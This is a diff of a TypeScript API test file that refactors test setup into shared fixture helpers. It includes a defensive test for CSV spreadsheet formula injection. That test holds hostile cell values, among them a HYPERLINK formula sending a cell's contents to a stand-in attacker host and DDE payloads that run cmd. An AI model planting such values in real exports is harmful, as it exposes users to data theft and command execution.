@@ -1,7 +1,7 @@
 import type { Page } from '../../src/common/pagination';
 import type { TransferView } from '../../src/transfers/transfer.dto';
-import { bearer, createOrganisation, startTestApp, TestApp } from '../support/app';
-import { fileContract, Parties, setupParties } from '../contracts/fixtures';
+import { bearer, createOrganisation, TestApp } from '../support/app';
+import { fileContract, Parties, startWithContract, startWithParties } from '../contracts/fixtures';
 import { holdLedgerLock, parseCsv, postTransfers, transferRecord, treeSize } from './support';
 
 /**
@@ -22,11 +22,7 @@ describe('POST /transfers', () => {
   let p: Parties;
   let contractId: string;
 
-  beforeAll(async () => {
-    t = await startTestApp();
-    p = await setupParties(t);
-    contractId = (await fileContract(t, p)).id;
-  });
+  beforeAll(async () => ({ t, p, contractId } = await startWithContract()));
   afterAll(async () => t?.close());
 
   it('appends a clean record and answers its leaf index and no flags', async () => {
@@ -373,8 +369,7 @@ describe('GET /transfers, export and summary', () => {
   const N = 230;
 
   beforeAll(async () => {
-    t = await startTestApp();
-    p = await setupParties(t);
+    ({ t, p } = await startWithParties());
     contractA = (await fileContract(t, p)).id;
     contractB = (await fileContract(t, p)).id;
     // A third organisation with its own contract, which p's parties must not see.
@@ -642,9 +637,7 @@ describe('GET /transfers/export?format=csv: spreadsheet formula injection (OWASP
   const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", '-2+3', "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+1', '\r=1+1'];
 
   beforeAll(async () => {
-    t = await startTestApp();
-    p = await setupParties(t);
-    contractId = (await fileContract(t, p)).id;
+    ({ t, p, contractId } = await startWithContract());
     const records = hostile.map((text, i) =>
       transferRecord(contractId, {
         occurredAt: new Date(Date.UTC(2025, 0, 25, 0, i)).toISOString(),
